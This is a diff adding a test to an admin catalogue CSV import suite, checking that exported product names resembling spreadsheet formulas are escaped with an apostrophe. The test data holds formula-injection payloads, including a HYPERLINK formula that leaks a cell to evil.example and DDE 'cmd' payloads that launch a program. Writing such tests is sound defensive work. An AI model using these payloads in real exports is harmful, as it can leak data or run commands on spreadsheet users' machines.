@@ -143,3 +143,18 @@ describe("POST /admin/catalogue/import", () => {
     expect(none.json.errors.file).toBe("Choose a CSV file to import.");
   });
 });
+
+describe("the export opened in a spreadsheet", () => {
+  it("writes a product name that looks like a formula behind an apostrophe, and its prices as numbers", async () => {
+    const [livingRoom] = await api.db.select({ slug: categories.slug }).from(categories).limit(1);
+    const names = [`=HYPERLINK("http://evil.example/?leak="&A2,"Open")`, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"];
+    const res = await importCsv(
+      ["sku,mrp,selling_price,stock,name,categories,hsn_code,gst_rate", ...names.map((name, i) => `WN-FORMULA-${i},1800,1500,3,"${name.replaceAll('"', '""')}",${livingRoom.slug},9401,18`)],
+      false,
+    );
+    expect(res.status, JSON.stringify(res.json)).toBe(200);
+    const rows = (await exported()).filter((r) => r.sku.startsWith("WN-FORMULA-")).sort((a, b) => a.sku.localeCompare(b.sku));
+    expect(rows.map((r) => r.name)).toEqual(names.map((name) => `'${name}`));
+    expect(rows.map((r) => [r.mrp, r.selling_price, r.stock])).toEqual(names.map(() => ["1800", "1500", "3"]));
+  });
+});
